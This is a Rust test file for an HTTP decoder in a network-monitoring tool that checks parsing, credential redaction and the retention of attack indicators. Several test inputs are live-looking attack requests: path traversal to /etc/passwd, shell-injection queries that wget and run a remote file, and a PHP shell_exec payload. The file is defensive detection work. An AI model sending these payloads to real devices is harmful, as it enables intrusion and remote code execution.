use super::REGISTRATION;
use crate::decode::{Peek, Side, Verdict, drive};
use hangtu_record::{FieldName, Transport};

#[test]
fn keep_alive_with_sized_and_chunked_bodies() {
    let client: &[u8] = b"POST /login?password=x HTTP/1.1\r\nHost: hmi\r\nContent-Length: 7\r\n\
        User-Agent: Mozilla/5.0 (Windows NT 6.1; WOW64)\r\n\r\n1234567\
        GET /a HTTP/1.1\r\nHost: hmi\r\nAuthorization: Basic b3A6c2VjcmV0\r\n\r\n";
    let server: &[u8] = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nServer: GoAhead\r\n\r\n\
        5;x=y\r\nHTTP/\r\n3\r\n1.1\r\n0\r\nTrailer: 1\r\n\r\n\
        HTTP/1.1 401 No\r\nContent-Type: text/html; charset=x\r\nContent-Length: 3\r\n\r\nabc";
    let whole =
        drive(&REGISTRATION, Transport::Tcp, [(Side::Client, client), (Side::Server, server)]);
    let told = crate::protocol::told(&whole.0, &whole.1);
    insta::assert_snapshot!(told, @r#"
    http.request.method = POST
    url.path = /login
    url.domain = hmi
    user_agent.original = Mozilla/5.0 (Windows NT 6.1; WOW64)
    http.request.method = GET
    url.path = /a
    user.name = op
    authentication.method = basic
    http.response.status_code = 200
    server.banner = GoAhead
    http.response.status_code = 401
    authentication.outcome = failure
    http.response.mime_type = text/html
    "#);
    // Byte by byte it reads the same.
    let bytes = client.chunks(1).map(|b| (Side::Client, b));
    let pieces = drive(
        &REGISTRATION,
        Transport::Tcp,
        bytes.chain(server.chunks(1).map(|b| (Side::Server, b))),
    );
    assert_eq!(told, crate::protocol::told(&pieces.0, &pieces.1));
}

#[test]
fn what_only_looks_like_heads_is_passed_over() {
    let opening = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n\0\0junk\n\n";
    let junk = b"GET x ".repeat(10_000);
    let found = b"\nGET /found HTTP/1.1\r\nHost: b\r\n\r\n";
    let pieces = std::iter::once(&opening[..])
        .chain(std::iter::repeat_n(&junk[..], 100))
        .chain([&found[..]])
        .map(|bytes| (Side::Client, bytes));
    let (out, facts) = drive(&REGISTRATION, Transport::Tcp, pieces);
    insta::assert_snapshot!(crate::protocol::told(&out, &facts), @r#"
    http.request.method = GET
    url.path = /
    url.domain = a
    url.path = /found
    url.domain = b
    1 unreadable http
    "#);
    // Start lines that no head follows.
    let lines = b"GET / HTTP/1.1\n".repeat(200_000);
    let pieces = lines.chunks(60_000).map(|bytes| (Side::Client, bytes));
    let (out, facts) = drive(&REGISTRATION, Transport::Tcp, pieces);
    assert_eq!((out.unreadable, facts.len()), (vec![("http", 181)], 0));
}

#[test]
fn a_long_head_may_come_byte_by_byte() {
    let lines = b"a:\n".repeat(10_000);
    let head = [&b"GET / HTTP/1.1\r\n"[..], &lines, b"Host: z\r\n\r\n"].concat();
    let pieces = head.chunks(1).map(|byte| (Side::Client, byte));
    let (out, facts) = drive(&REGISTRATION, Transport::Tcp, pieces);
    insta::assert_snapshot!(crate::protocol::told(&out, &facts), @r#"
    http.request.method = GET
    url.path = /
    url.domain = z
    "#);
}

#[test]
fn only_http_is_taken_for_http() {
    let peek = |bytes: &[u8]| {
        (REGISTRATION.probe)(Peek { bytes, by_port: None, transport: Transport::Tcp })
    };
    assert_eq!(peek(b"GET / HTTP/1.0\r\n"), Verdict::Yes(Some(Side::Client)));
    assert_eq!(peek(b"HTTP/1.1 404 "), Verdict::Yes(Some(Side::Server)));
    assert_eq!(peek(b"OPTIONS rtsp://cam/1 RTSP/1.0\r\n"), Verdict::No);
    assert_eq!(peek(b"OPTIO"), Verdict::More);
    assert_eq!(peek(b"GETTING"), Verdict::No);
    assert_eq!(peek(b"SUBSCRIBE /x HTTP/1.1\r\n"), Verdict::No);
}

/// What messages of client and server in turn tell.
fn told(messages: &[&str]) -> String {
    let sides = [Side::Client, Side::Server].into_iter().cycle();
    let segments = sides.zip(messages.iter().map(|message| message.as_bytes()));
    let (out, facts) = drive(&REGISTRATION, Transport::Tcp, segments);
    crate::protocol::told(&out, &facts)
}

#[test]
fn any_method_is_read_once_it_is_http() {
    let messages = [
        "GET / HTTP/1.1\r\n\r\n",
        "HTTP/1.1 204 No\r\n\r\n",
        "M-SEARCH /x HTTP/1.1\r\nHost: a\r\n\r\nMERGE /y HTTP/1.1\r\n\r\n",
    ];
    insta::assert_snapshot!(told(&messages), @r#"
    http.request.method = GET
    url.path = /
    http.response.status_code = 204
    http.request.method = M-SEARCH
    url.path = /x
    url.domain = a
    http.request.method = MERGE
    url.path = /y
    "#);
    let client = [messages[0], messages[2]].concat();
    let bytes = client.as_bytes().chunks(1).map(|byte| (Side::Client, byte));
    let (out, facts) = drive(&REGISTRATION, Transport::Tcp, bytes);
    assert_eq!((out.unreadable.len(), facts.len()), (0, 7));
}

#[test]
fn the_password_in_a_target_is_not_kept() {
    let asked = "GET http://bob:pw@host/a?b HTTP/1.1\r\nHost: bob:pw@host:80\r\n\r\n";
    insta::assert_snapshot!(told(&[asked]), @r#"
    http.request.method = GET
    url.path = /a
    user.name = bob
    url.domain = host
    url.port = 80
    "#);
}

#[test]
fn of_a_query_what_attacks_carry_is_kept_and_no_secret() {
    let queries = |target: &str| {
        let told = told(&[&format!("GET {target} HTTP/1.1\r\nHost: a\r\n\r\n")]);
        assert!(!told.contains("hunter2"), "{told}");
        let queries = told.lines().filter_map(|line| line.strip_prefix("url.query = "));
        queries.collect::<Vec<_>>().join(" ")
    };
    assert_eq!(queries("/a?user=op&page=3&password=hunter2"), "");
    assert_eq!(
        queries("/cgi-bin/read?id=7&file=../../../etc/passwd&token=hunter2#x"),
        "file=../../../etc/passwd"
    );
    assert_eq!(queries("http://a/x?P=..%2F..%2fboot.ini"), "P=..%2F..%2fboot.ini");
    assert_eq!(queries("/shell?cd+/tmp;wget+http://b/c"), "cd+/tmp;wget+http://b/c");
    assert_eq!(
        queries("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=reboot"),
        "next_file=netgear.cfg"
    );
    // Of what may hold a secret the mark alone, also where it stands within another.
    assert_eq!(queries("/a?pwd=hunter2;wget+b"), ";wget");
    assert_eq!(queries("/a?user[password]=a$(hunter2"), "$(");
    assert_eq!(queries("/a?user%5Bpassword%5D=a%60hunter2"), "%60");
    assert_eq!(queries("/a?back=../../b%3ftoken%3Dhunter2"), "../../");
    // Of a URL with a password in it, too.
    assert_eq!(queries("/shell?cd+/tmp;wget+http://bob:hunter2@b/x"), "cd+/");
    // A long one from shortly before the mark.
    let long = queries(&format!("/a?f={}../../x", "y".repeat(300)));
    assert_eq!(long, format!("{}../../x", "y".repeat(40)));
    let many: Vec<String> = (0..40).map(|n| format!("f=../{n}")).collect();
    assert_eq!(queries(&format!("/a?{}", many.join("&"))).split(' ').count(), 16);
}

#[test]
fn raw_spaces_do_not_end_a_target() {
    let told = |line: &str| {
        let told = told(&[&format!("{line} HTTP/1.1\r\n\r\n")]);
        assert!(!told.contains("hunter2"), "{told}");
        told.lines().skip(1).collect::<Vec<_>>().join(", ")
    };
    let shell = "GET /shell?cd /tmp;wget http://192.0.2.1/x;sh x";
    let query = "url.query = cd /tmp;wget http://192.0.2.1/x;sh x";
    assert_eq!(told(shell), format!("url.path = /shell, {query}"));
    assert_eq!(
        told("GET /index.php?s=/index/&vars[0]=shell_exec&vars[1][]='wget http://b/x -O x; sh x'"),
        "url.path = /index.php, url.query = vars[1][]='wget http://b/x -O x; sh x'"
    );
    assert_eq!(told("GET  /a b.htm HTTP/1.1 "), "url.path = /a b.htm HTTP/1.1");
    assert_eq!(told("GET "), "");
    // Of what may hold a secret the mark alone, here as well.
    assert_eq!(
        told("GET /a?password = hunter2;curl http://b"),
        "url.path = /a, url.query = curl http"
    );
    assert_eq!(
        told("GET http://bob:hunter2 x@c/a b"),
        "url.path = /a b, user.name = bob, url.domain = c"
    );
}

/// The paths and queries that the requests of a client tell which has that many user agents.
fn parts<'t>(agents: usize, targets: impl Iterator<Item = &'t str>) -> Vec<String> {
    let request = |(n, target): (usize, &str)| {
        format!("GET {target} HTTP/1.1\r\nUser-Agent: {}\r\n\r\n", n % agents)
    };
    let asked = targets.enumerate().map(request).collect::<Vec<_>>().concat();
    let (_, facts) = drive(&REGISTRATION, Transport::Tcp, [(Side::Client, asked.as_bytes())]);
    let names = [FieldName::UrlPath, FieldName::UrlQuery];
    let parts = facts.iter().filter(|(name, _)| names.contains(name));
    parts.map(|(_, value)| value.as_value().to_string()).collect()
}

#[test]
fn attacks_have_room_behind_whatever_else_was_asked() {
    let attack = "/a/../../etc/passwd";
    // One page again and again.
    let polled = std::iter::repeat_n("/data", 200).chain([attack, "/other"]);
    assert_eq!(parts(1, polled), ["/data", attack, "/other"]);
    // Many pages, and an attack that only the query tells.
    let pages: Vec<String> = (0..200).map(|n| format!("/{n}")).collect();
    let behind = [attack, "/shell?cd /tmp", "/more"];
    let told = parts(200, pages.iter().map(String::as_str).chain(behind));
    assert_eq!(told.len(), 32 + 3);
    assert_eq!(told[31..], ["/31", attack, "/shell", "cd /tmp"]);
    // Many attacks: room for some of their paths and, behind those, for queries.
    let attacks: Vec<String> = (0..200).map(|n| format!("/../../{n}")).collect();
    let all = pages.iter().chain(&attacks).map(String::as_str).chain(["/b?f=../../x"]);
    let told = parts(200, all);
    assert_eq!(told.len(), 48 + 1);
    assert_eq!(told[47..], ["/../../15", "f=../../x"]);
}

#[test]
fn who_logs_on_has_room_behind_many_pages() {
    let mut asked: Vec<_> =
        (0..200).map(|n| format!("GET /{n} HTTP/1.1\r\nUser-Agent: {n}\r\n\r\n")).collect();
    asked.push("GET / HTTP/1.1\r\nAuthorization: Basic YWRtaW46c2VjcmV0\r\n\r\n".into());
    assert!(told(&[&asked.concat()]).contains("user.name = admin"));
}

#[test]
fn a_status_tells_the_fate_of_the_credentials_that_it_is_about() {
    let outcome = |field: &str, status: u16| {
        let asked = format!("GET / HTTP/1.1\r\n{field}: Basic YWRtaW46c2VjcmV0\r\n\r\n");
        let told = told(&[&asked, &format!("HTTP/1.1 {status} X\r\n\r\n")]);
        assert!(told.contains("user.name = admin") && !told.contains("secret"));
        let outcome = told.lines().find_map(|l| l.strip_prefix("authentication.outcome = "));
        outcome.unwrap_or_default().to_owned()
    };
    let all = |field| [200, 302, 401, 403, 407, 404, 500].map(|status| outcome(field, status));
    let (yes, no) = ("success", "failure");
    assert_eq!(all("Authorization"), [yes, yes, no, no, "", "", ""]);
    assert_eq!(all("Proxy-Authorization"), [yes, yes, "", no, no, "", ""]);
}

#[test]
fn tls_behind_connect_is_read() {
    let body: Vec<u8> = [&[3, 3][..], &[7; 32], &[0], &[0, 2, 0x13, 1], &[1, 0]].concat();
    let size = body.len() as u8;
    let hello = [&[22, 3, 1, 0, size + 4, 1, 0, 0, size][..], &body].concat();
    let segments: [(Side, &[u8]); 5] = [
        (Side::Client, b"CONNECT h:443 HTTP/1.1\r\nHost: h:443\r\n\r\n"),
        (Side::Server, b"HTTP/1.1 200 OK\r\n\r\n"),
        (Side::Client, &hello[..3]),
        (Side::Client, &hello[3..]),
        (Side::Server, b"no TLS"),
    ];
    let (out, facts) = drive(&REGISTRATION, Transport::Tcp, segments);
    insta::assert_snapshot!(crate::protocol::told(&out, &facts), @r#"
    http.request.method = CONNECT
    url.domain = h
    url.port = 443
    http.response.status_code = 200
    tls.client.ja4 = t12i010000_0f2cb44170f4_000000000000
    tls.version = 1.2
    1 unreadable tls
    "#);
    // Something else behind it is nobody's fault.
    let (out, _) = drive(&REGISTRATION, Transport::Tcp, [segments[0], segments[1], segments[4]]);
    assert!(out.unreadable.is_empty());
}
